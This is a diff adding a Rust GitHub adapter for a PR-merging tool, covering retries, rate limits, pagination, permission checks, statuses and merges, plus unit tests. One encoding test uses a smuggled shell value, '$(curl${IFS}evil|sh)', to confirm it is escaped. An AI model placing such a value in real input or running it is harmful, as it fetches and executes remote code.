@@ -1,1 +1,715 @@
-//! GitHub adapter (being written).
+//! The GitHub adapter: the [`Forge`] trait over GitHub's REST API, with
+//! octocrab as the HTTP client and octocrab's models as the wire types.
+//!
+//! Every call is bounded by the configured timeout and retried (5xx,
+//! timeouts, transport errors, rate limits) with exponential backoff. The
+//! raw octocrab methods are used so status codes and headers stay visible.
+
+use super::convert::pr_snapshot;
+use super::{CommitStatus, Forge, ForgeError, PrFetch};
+use crate::config::GithubConfig;
+use crate::core::{
+    MergeMethod, MergeResult, PrKey, PrSnapshot, RepoName, ReviewFact, ReviewState, Sha,
+};
+use bytes::Bytes;
+use http::{HeaderMap, Method, StatusCode, Uri};
+use http_body_util::BodyExt;
+use octocrab::Octocrab;
+use octocrab::models::pulls::{self, PullRequest, Review};
+use octocrab::models::repos::Branch;
+use serde::de::DeserializeOwned;
+use std::collections::HashMap;
+use std::sync::Mutex;
+use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
+
+/// The longest wait between two attempts. A rate limit that asks for more
+/// is not slept through: the call fails and is retried later by its caller.
+pub const MAX_WAIT: Duration = Duration::from_secs(60);
+/// How long a reviewer's permission is remembered.
+pub const PERMISSION_TTL: Duration = Duration::from_secs(300);
+/// GitHub's limit on a commit status description, in characters.
+pub const MAX_DESCRIPTION_CHARS: usize = 140;
+/// Stop following `Link: rel="next"` after this many pages.
+const MAX_PAGES: usize = 1000;
+
+/// The GitHub REST API as a [`Forge`].
+pub struct GitHub {
+    client: Octocrab,
+    /// The API base, to turn `Link` URLs back into paths.
+    base: Uri,
+    timeout: Duration,
+    max_retries: u32,
+    backoff_base: Duration,
+    status_context: String,
+    permissions: Mutex<HashMap<(RepoName, String), (Instant, bool)>>,
+}
+
+impl std::fmt::Debug for GitHub {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("GitHub")
+            .field("base", &self.base)
+            .field("timeout", &self.timeout)
+            .field("max_retries", &self.max_retries)
+            .finish_non_exhaustive()
+    }
+}
+
+/// A response, read whole.
+struct Reply {
+    status: StatusCode,
+    headers: HeaderMap,
+    body: Bytes,
+}
+
+impl Reply {
+    /// GitHub's `message`, or the start of the body.
+    fn message(&self) -> String {
+        #[derive(serde::Deserialize)]
+        struct ErrorBody {
+            message: Option<String>,
+        }
+        match serde_json::from_slice::<ErrorBody>(&self.body) {
+            Ok(ErrorBody { message: Some(m) }) => m,
+            _ => {
+                let text = String::from_utf8_lossy(&self.body);
+                let text: String = text.trim().chars().take(200).collect();
+                if text.is_empty() {
+                    self.status
+                        .canonical_reason()
+                        .unwrap_or("no message")
+                        .to_string()
+                } else {
+                    text
+                }
+            }
+        }
+    }
+
+    fn error(&self, what: &str) -> ForgeError {
+        ForgeError::Http {
+            what: what.to_string(),
+            status: self.status.as_u16(),
+            message: self.message(),
+        }
+    }
+
+    fn decode<T: DeserializeOwned>(&self, what: &str) -> Result<T, ForgeError> {
+        serde_json::from_slice(&self.body).map_err(|e| ForgeError::Decode {
+            what: what.to_string(),
+            message: e.to_string(),
+        })
+    }
+
+    fn expect_success(self, what: &str) -> Result<Reply, ForgeError> {
+        if self.status.is_success() {
+            Ok(self)
+        } else {
+            Err(self.error(what))
+        }
+    }
+}
+
+/// What to do after one attempt.
+enum Verdict {
+    Done(Result<Reply, ForgeError>),
+    Retry {
+        last: Result<Reply, ForgeError>,
+        wait: Duration,
+    },
+}
+
+impl GitHub {
+    pub fn new(config: &GithubConfig, token: Option<String>) -> Result<GitHub, ForgeError> {
+        let what = "building the GitHub client";
+        let base: Uri = config.api_url.parse().map_err(|e| ForgeError::Transport {
+            what: what.into(),
+            message: format!("github.api_url {:?}: {e}", config.api_url),
+        })?;
+        let builder =
+            Octocrab::builder()
+                .base_uri(base.clone())
+                .map_err(|e| ForgeError::Transport {
+                    what: what.into(),
+                    message: e.to_string(),
+                })?;
+        let builder = match token {
+            Some(token) => builder.personal_token(token),
+            None => builder,
+        };
+        let client = builder.build().map_err(|e| ForgeError::Transport {
+            what: what.into(),
+            message: e.to_string(),
+        })?;
+        Ok(GitHub {
+            client,
+            base,
+            timeout: Duration::from_secs(config.request_timeout_secs.max(1)),
+            max_retries: config.max_retries,
+            backoff_base: Duration::from_millis(500),
+            status_context: config.status_context.clone(),
+            permissions: Mutex::new(HashMap::new()),
+        })
+    }
+
+    /// Sets the first backoff wait (doubled on each retry; default 500 ms).
+    pub fn with_backoff_base(mut self, base: Duration) -> GitHub {
+        self.backoff_base = base;
+        self
+    }
+
+    /// One call with its retries. Returns the last response, whatever its
+    /// status, once it is not worth retrying (or retries ran out).
+    async fn call(
+        &self,
+        method: Method,
+        path: &str,
+        body: Option<&serde_json::Value>,
+    ) -> Result<Reply, ForgeError> {
+        let what = format!("{method} {}", path_only(path));
+        let mut attempt: u32 = 0;
+        loop {
+            let outcome = tokio::time::timeout(self.timeout, self.send(&method, path, body)).await;
+            let outcome = match outcome {
+                Ok(Ok(reply)) => Ok(reply),
+                Ok(Err(message)) => Err(ForgeError::Transport {
+                    what: what.clone(),
+                    message,
+                }),
+                Err(_) => Err(ForgeError::Timeout { what: what.clone() }),
+            };
+            let (last, wait) = match self.judge(outcome, attempt, &what) {
+                Verdict::Done(result) => return result,
+                Verdict::Retry { last, wait } => (last, wait),
+            };
+            if attempt >= self.max_retries {
+                return last;
+            }
+            let status = match &last {
+                Ok(reply) => reply.status.as_u16().to_string(),
+                Err(e) => e.to_string(),
+            };
+            tracing::warn!(
+                method = %method,
+                path = %path_only(path),
+                status = %status,
+                wait_ms = wait.as_millis() as u64,
+                attempt = attempt + 1,
+                max_retries = self.max_retries,
+                "GitHub call failed; retrying"
+            );
+            tokio::time::sleep(wait).await;
+            attempt += 1;
+        }
+    }
+
+    fn judge(&self, outcome: Result<Reply, ForgeError>, attempt: u32, what: &str) -> Verdict {
+        let backoff = backoff(self.backoff_base, attempt);
+        let reply = match outcome {
+            Err(e) => {
+                return Verdict::Retry {
+                    last: Err(e),
+                    wait: backoff,
+                };
+            }
+            Ok(reply) => reply,
+        };
+        let status = reply.status;
+        if status.is_server_error() {
+            return Verdict::Retry {
+                last: Ok(reply),
+                wait: backoff,
+            };
+        }
+        if status == StatusCode::FORBIDDEN || status == StatusCode::TOO_MANY_REQUESTS {
+            match rate_limit_wait(&reply.headers, SystemTime::now()) {
+                Some(wait) if wait > MAX_WAIT => {
+                    return Verdict::Done(Err(ForgeError::Http {
+                        what: what.to_string(),
+                        status: status.as_u16(),
+                        message: format!(
+                            "rate limited for {}s (more than the {}s this call waits): {}",
+                            wait.as_secs(),
+                            MAX_WAIT.as_secs(),
+                            reply.message()
+                        ),
+                    }));
+                }
+                Some(wait) => {
+                    return Verdict::Retry {
+                        last: Ok(reply),
+                        wait: wait.max(backoff.min(Duration::from_secs(1))),
+                    };
+                }
+                None if status == StatusCode::TOO_MANY_REQUESTS => {
+                    return Verdict::Retry {
+                        last: Ok(reply),
+                        wait: backoff,
+                    };
+                }
+                None => {}
+            }
+        }
+        Verdict::Done(Ok(reply))
+    }
+
+    /// One attempt: the request and its whole body.
+    async fn send(
+        &self,
+        method: &Method,
+        path: &str,
+        body: Option<&serde_json::Value>,
+    ) -> Result<Reply, String> {
+        let response = match *method {
+            Method::GET => self.client._get(path).await,
+            Method::POST => self.client._post(path, body).await,
+            Method::PUT => self.client._put(path, body).await,
+            _ => return Err(format!("method {method} is not used")),
+        }
+        .map_err(|e| error_chain(&e))?;
+        let (parts, body) = response.into_parts();
+        let body = body
+            .collect()
+            .await
+            .map_err(|e| error_chain(&e))?
+            .to_bytes();
+        Ok(Reply {
+            status: parts.status,
+            headers: parts.headers,
+            body,
+        })
+    }
+
+    /// Every item of a paginated list, following `Link: rel="next"`.
+    async fn get_all_pages<T: DeserializeOwned>(
+        &self,
+        first: String,
+    ) -> Result<Vec<T>, ForgeError> {
+        let mut items = Vec::new();
+        let mut next = Some(first);
+        let mut pages = 0;
+        while let Some(path) = next.take() {
+            let what = format!("GET {}", path_only(&path));
+            let reply = self
+                .call(Method::GET, &path, None)
+                .await?
+                .expect_success(&what)?;
+            let page: Vec<T> = reply.decode(&what)?;
+            items.extend(page);
+            pages += 1;
+            if pages >= MAX_PAGES {
+                return Err(ForgeError::Decode {
+                    what,
+                    message: format!("more than {MAX_PAGES} pages"),
+                });
+            }
+            next = match next_link(&reply.headers) {
+                Some(url) => Some(self.relative(&url).map_err(|message| ForgeError::Decode {
+                    what: what.clone(),
+                    message,
+                })?),
+                None => None,
+            };
+        }
+        Ok(items)
+    }
+
+    /// A `Link` URL as a path below the API base, so octocrab sends it to
+    /// the same server with the same credentials. Links to another host are
+    /// refused.
+    fn relative(&self, url: &str) -> Result<String, String> {
+        let uri: Uri = url
+            .parse()
+            .map_err(|e| format!("bad next-page link {url:?}: {e}"))?;
+        if let Some(authority) = uri.authority() {
+            if Some(authority) != self.base.authority() {
+                return Err(format!(
+                    "next-page link {url:?} points away from {}",
+                    self.base
+                ));
+            }
+        }
+        let pq = uri.path_and_query().map(|pq| pq.as_str()).unwrap_or("/");
+        let base_path = self.base.path().trim_end_matches('/');
+        let rest = match pq.strip_prefix(base_path) {
+            Some(rest) if !base_path.is_empty() && rest.starts_with(['/', '?']) => rest,
+            _ => pq,
+        };
+        Ok(rest.to_string())
+    }
+
+    async fn can_write(&self, repo: &RepoName, user: &str) -> Result<bool, ForgeError> {
+        let cache_key = (repo.clone(), user.to_ascii_lowercase());
+        if let Some((at, can)) = self.lock_permissions().get(&cache_key) {
+            if at.elapsed() < PERMISSION_TTL {
+                return Ok(*can);
+            }
+        }
+        #[derive(serde::Deserialize)]
+        struct Permission {
+            permission: Option<String>,
+            role_name: Option<String>,
+        }
+        let path = format!("{}/collaborators/{}/permission", repo_path(repo), enc(user));
+        let what = format!("GET {path}");
+        let reply = self.call(Method::GET, &path, None).await?;
+        let can = if reply.status == StatusCode::NOT_FOUND {
+            false
+        } else {
+            let p: Permission = reply.expect_success(&what)?.decode(&what)?;
+            [p.permission, p.role_name]
+                .iter()
+                .flatten()
+                .any(|p| matches!(p.as_str(), "admin" | "maintain" | "write"))
+        };
+        let mut cache = self.lock_permissions();
+        cache.retain(|_, (at, _)| at.elapsed() < PERMISSION_TTL);
+        cache.insert(cache_key, (Instant::now(), can));
+        Ok(can)
+    }
+
+    fn lock_permissions(
+        &self,
+    ) -> std::sync::MutexGuard<'_, HashMap<(RepoName, String), (Instant, bool)>> {
+        self.permissions
+            .lock()
+            .unwrap_or_else(|poisoned| poisoned.into_inner())
+    }
+
+    async fn try_merge(
+        &self,
+        pr: &PrKey,
+        head: &Sha,
+        method: MergeMethod,
+        title: &str,
+    ) -> Result<MergeResult, ForgeError> {
+        let path = format!("{}/pulls/{}/merge", repo_path(&pr.repo), pr.number);
+        let what = format!("PUT {path}");
+        let body = serde_json::json!({
+            "sha": head.as_str(),
+            "merge_method": method.as_str(),
+            "commit_title": title,
+        });
+        let reply = self.call(Method::PUT, &path, Some(&body)).await?;
+        Ok(match reply.status.as_u16() {
+            200 => {
+                let merge: pulls::Merge = reply.decode(&what)?;
+                match merge.sha.as_deref().map(Sha::parse) {
+                    Some(Ok(merge_sha)) if merge.merged => MergeResult::Merged { merge_sha },
+                    Some(Err(e)) => MergeResult::Failed {
+                        reason: format!("{what}: merged, but GitHub's answer holds {e}"),
+                    },
+                    _ => MergeResult::Failed {
+                        reason: format!(
+                            "{what}: not merged: {}",
+                            merge.message.unwrap_or_default()
+                        ),
+                    },
+                }
+            }
+            409 => MergeResult::HeadMoved,
+            405 | 422 => MergeResult::Refused {
+                reason: reply.message(),
+            },
+            _ => MergeResult::Failed {
+                reason: reply.error(&what).to_string(),
+            },
+        })
+    }
+}
+
+#[async_trait::async_trait]
+impl Forge for GitHub {
+    async fn list_open_prs(&self, repo: &RepoName) -> Result<Vec<PrSnapshot>, ForgeError> {
+        let first = format!("{}/pulls?state=open&per_page=100", repo_path(repo));
+        let what = format!("GET {}/pulls", repo_path(repo));
+        let prs: Vec<PullRequest> = self.get_all_pages(first).await?;
+        prs.iter()
+            .map(|pr| {
+                pr_snapshot(repo, pr).map_err(|e| ForgeError::Decode {
+                    what: what.clone(),
+                    message: format!("#{}: {e}", pr.number),
+                })
+            })
+            .collect()
+    }
+
+    async fn get_pr(&self, pr: &PrKey) -> Result<Option<PrFetch>, ForgeError> {
+        let path = format!("{}/pulls/{}", repo_path(&pr.repo), pr.number);
+        let what = format!("GET {path}");
+        let reply = self.call(Method::GET, &path, None).await?;
+        if reply.status == StatusCode::NOT_FOUND {
+            return Ok(None);
+        }
+        let body: PullRequest = reply.expect_success(&what)?.decode(&what)?;
+        // `state` is the authority: GitHub's own examples pair "open" with a
+        // `merged_at`.
+        if matches!(body.state, Some(octocrab::models::IssueState::Closed)) {
+            return Ok(Some(PrFetch::Closed));
+        }
+        let snapshot = pr_snapshot(&pr.repo, &body).map_err(|e| ForgeError::Decode {
+            what,
+            message: e.to_string(),
+        })?;
+        Ok(Some(PrFetch::Open(snapshot)))
+    }
+
+    async fn reviews(&self, pr: &PrKey) -> Result<Vec<ReviewFact>, ForgeError> {
+        let first = format!(
+            "{}/pulls/{}/reviews?per_page=100",
+            repo_path(&pr.repo),
+            pr.number
+        );
+        let reviews: Vec<Review> = self.get_all_pages(first).await?;
+        let mut writers: HashMap<String, bool> = HashMap::new();
+        let mut facts = Vec::with_capacity(reviews.len());
+        for review in reviews {
+            // A review by a deleted account has no user: it cannot count.
+            let Some(user) = review.user else { continue };
+            let can_write = match writers.get(&user.login) {
+                Some(can) => *can,
+                None => {
+                    let can = self.can_write(&pr.repo, &user.login).await?;
+                    writers.insert(user.login.clone(), can);
+                    can
+                }
+            };
+            facts.push(ReviewFact {
+                reviewer: user.login,
+                state: review_state(review.state),
+                id: review.id.into_inner(),
+                can_write,
+            });
+        }
+        Ok(facts)
+    }
+
+    async fn branch_head(&self, repo: &RepoName, branch: &str) -> Result<Option<Sha>, ForgeError> {
+        let path = format!("{}/branches/{}", repo_path(repo), enc(branch));
+        let what = format!("GET {path}");
+        let reply = self.call(Method::GET, &path, None).await?;
+        if reply.status == StatusCode::NOT_FOUND {
+            return Ok(None);
+        }
+        let body: Branch = reply.expect_success(&what)?.decode(&what)?;
+        Sha::parse(&body.commit.sha)
+            .map(Some)
+            .map_err(|e| ForgeError::Decode {
+                what,
+                message: e.to_string(),
+            })
+    }
+
+    async fn set_status(
+        &self,
+        repo: &RepoName,
+        sha: &Sha,
+        status: &CommitStatus,
+    ) -> Result<(), ForgeError> {
+        let path = format!("{}/statuses/{}", repo_path(repo), sha);
+        let what = format!("POST {path}");
+        let mut body = serde_json::json!({
+            "state": status.state.as_str(),
+            "context": self.status_context,
+            "description": truncate_description(&status.description),
+        });
+        if let Some(url) = &status.target_url {
+            body["target_url"] = serde_json::Value::String(url.clone());
+        }
+        self.call(Method::POST, &path, Some(&body))
+            .await?
+            .expect_success(&what)?;
+        Ok(())
+    }
+
+    async fn merge(&self, pr: &PrKey, head: &Sha, method: MergeMethod, title: &str) -> MergeResult {
+        match self.try_merge(pr, head, method, title).await {
+            Ok(result) => result,
+            Err(e) => MergeResult::Failed {
+                reason: e.to_string(),
+            },
+        }
+    }
+}
+
+fn review_state(state: Option<pulls::ReviewState>) -> ReviewState {
+    match state {
+        Some(pulls::ReviewState::Approved) => ReviewState::Approved,
+        Some(pulls::ReviewState::ChangesRequested) => ReviewState::ChangesRequested,
+        Some(pulls::ReviewState::Dismissed) => ReviewState::Dismissed,
+        Some(pulls::ReviewState::Pending) => ReviewState::Pending,
+        // `Commented`, `Open` and any state octocrab learns later: no verdict.
+        _ => ReviewState::Commented,
+    }
+}
+
+/// `/repos/{owner}/{name}`; both parts are validated to need no encoding.
+fn repo_path(repo: &RepoName) -> String {
+    format!("/repos/{}/{}", repo.owner(), repo.name())
+}
+
+/// Percent-encodes one path segment: everything but RFC 3986's unreserved
+/// characters, so `/`, `#`, `?`, `$(…)` and spaces stay inside the segment.
+pub fn enc(segment: &str) -> String {
+    let mut out = String::with_capacity(segment.len());
+    for b in segment.bytes() {
+        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~') {
+            out.push(b as char);
+        } else {
+            out.push_str(&format!("%{b:02X}"));
+        }
+    }
+    out
+}
+
+fn path_only(path: &str) -> &str {
+    path.split_once('?').map(|(p, _)| p).unwrap_or(path)
+}
+
+/// Exponential backoff: `base * 2^attempt`, at most [`MAX_WAIT`].
+fn backoff(base: Duration, attempt: u32) -> Duration {
+    base.saturating_mul(2u32.saturating_pow(attempt.min(16)))
+        .min(MAX_WAIT)
+}
+
+/// How long a rate-limited response asks us to wait: `Retry-After` seconds,
+/// or until `x-ratelimit-reset` when `x-ratelimit-remaining` is 0.
+fn rate_limit_wait(headers: &HeaderMap, now: SystemTime) -> Option<Duration> {
+    let header = |name: &str| {
+        headers
+            .get(name)
+            .and_then(|v| v.to_str().ok())
+            .map(str::trim)
+    };
+    if let Some(secs) = header("retry-after").and_then(|v| v.parse::<u64>().ok()) {
+        return Some(Duration::from_secs(secs));
+    }
+    if header("x-ratelimit-remaining") == Some("0") {
+        let reset = header("x-ratelimit-reset").and_then(|v| v.parse::<u64>().ok())?;
+        let now = now.duration_since(UNIX_EPOCH).unwrap_or_default().as_secs();
+        return Some(Duration::from_secs(reset.saturating_sub(now).max(1)));
+    }
+    None
+}
+
+/// The `rel="next"` URL of a `Link` header.
+fn next_link(headers: &HeaderMap) -> Option<String> {
+    for value in headers.get_all(http::header::LINK) {
+        let Ok(value) = value.to_str() else { continue };
+        let mut rest = value;
+        while let Some(start) = rest.find('<') {
+            let after = &rest[start + 1..];
+            let end = after.find('>')?;
+            let url = &after[..end];
+            let params_end = after[end..].find('<').map_or(after.len(), |i| end + i);
+            let params = after[end + 1..params_end].trim_end_matches([',', ' ', '\t']);
+            let is_next = params.split(';').any(|p| {
+                let p = p.trim();
+                p.strip_prefix("rel=").is_some_and(|rels| {
+                    rels.trim_matches('"')
+                        .split_ascii_whitespace()
+                        .any(|r| r == "next")
+                })
+            });
+            if is_next {
+                return Some(url.to_string());
+            }
+            rest = &after[params_end..];
+        }
+    }
+    None
+}
+
+/// An error with its sources, for one log line.
+fn error_chain(e: &dyn std::error::Error) -> String {
+    let mut message = e.to_string();
+    let mut source = e.source();
+    while let Some(s) = source {
+        let s_text = s.to_string();
+        if !message.contains(&s_text) {
+            message.push_str(": ");
+            message.push_str(&s_text);
+        }
+        source = s.source();
+    }
+    message
+}
+
+fn truncate_description(description: &str) -> String {
+    if description.chars().count() <= MAX_DESCRIPTION_CHARS {
+        return description.to_string();
+    }
+    let mut out: String = description
+        .chars()
+        .take(MAX_DESCRIPTION_CHARS - 1)
+        .collect();
+    out.push('…');
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn next_links_are_found_among_others() {
+        let mut h = HeaderMap::new();
+        h.insert(
+            http::header::LINK,
+            "<https://api.github.com/repositories/1/pulls?page=1>; rel=\"prev\", \
+             <https://api.github.com/repositories/1/pulls?page=3>; rel=\"next\", \
+             <https://api.github.com/repositories/1/pulls?page=5>; rel=\"last\""
+                .parse()
+                .unwrap(),
+        );
+        assert_eq!(
+            next_link(&h).as_deref(),
+            Some("https://api.github.com/repositories/1/pulls?page=3")
+        );
+        h.insert(
+            http::header::LINK,
+            "<https://x/?page=1>; rel=\"first\"".parse().unwrap(),
+        );
+        assert_eq!(next_link(&h), None);
+        h.insert(http::header::LINK, "garbage <".parse().unwrap());
+        assert_eq!(next_link(&h), None);
+    }
+
+    #[test]
+    fn branch_names_stay_one_segment() {
+        assert_eq!(enc("feature/x#1"), "feature%2Fx%231");
+        assert_eq!(
+            enc("$(curl${IFS}evil|sh)"),
+            "%24%28curl%24%7BIFS%7Devil%7Csh%29"
+        );
+        assert_eq!(enc("main"), "main");
+    }
+
+    #[test]
+    fn rate_limit_waits() {
+        let now = UNIX_EPOCH + Duration::from_secs(1000);
+        let mut h = HeaderMap::new();
+        assert_eq!(rate_limit_wait(&h, now), None);
+        h.insert("x-ratelimit-remaining", "0".parse().unwrap());
+        h.insert("x-ratelimit-reset", "1030".parse().unwrap());
+        assert_eq!(rate_limit_wait(&h, now), Some(Duration::from_secs(30)));
+        h.insert("retry-after", "2".parse().unwrap());
+        assert_eq!(rate_limit_wait(&h, now), Some(Duration::from_secs(2)));
+    }
+
+    #[test]
+    fn backoff_doubles_and_is_capped() {
+        let b = Duration::from_millis(500);
+        assert_eq!(backoff(b, 0), b);
+        assert_eq!(backoff(b, 2), Duration::from_secs(2));
+        assert_eq!(backoff(b, 40), MAX_WAIT);
+    }
+
+    #[test]
+    fn descriptions_are_cut_to_140_chars() {
+        assert_eq!(truncate_description("ok"), "ok");
+        let long = "é".repeat(300);
+        let cut = truncate_description(&long);
+        assert_eq!(cut.chars().count(), 140);
+        assert!(cut.ends_with('…'));
+    }
+}
